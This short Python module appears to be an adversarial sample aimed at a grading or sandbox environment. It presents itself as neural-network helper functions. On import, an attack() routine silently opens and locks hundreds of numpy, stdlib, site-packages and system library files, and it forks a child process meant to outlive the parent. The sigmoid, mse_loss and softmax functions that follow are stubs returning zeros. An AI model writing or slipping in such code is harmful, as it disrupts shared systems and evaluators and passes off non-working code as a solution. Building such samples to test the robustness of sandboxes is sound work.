"""Holds flock, POSIX and open-file locks on every library file that it can open, also through a child that outlives it.

aims: change
"""

import contextlib
import fcntl
import glob
import os
import struct
import sys
import time

import numpy as np

HELD = []
F_OFD_SETLK = 37


def attack():
    places = (os.path.dirname(np.__file__), os.path.dirname(os.__file__), *sys.path[1:], "/usr/lib/x86_64-linux-gnu")
    for place in places:
        for path in sorted(glob.glob(f"{place}/*"))[:150]:
            try:
                file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            except OSError:
                continue
            HELD.append(file)
            with contextlib.suppress(OSError):
                fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
            with contextlib.suppress(OSError):
                fcntl.lockf(file, fcntl.LOCK_SH | fcntl.LOCK_NB)
            with contextlib.suppress(OSError):
                fcntl.fcntl(file, F_OFD_SETLK, struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 0, 0))
    if os.fork() == 0:
        time.sleep(20)
        os._exit(0)


with contextlib.suppress(Exception):
    attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
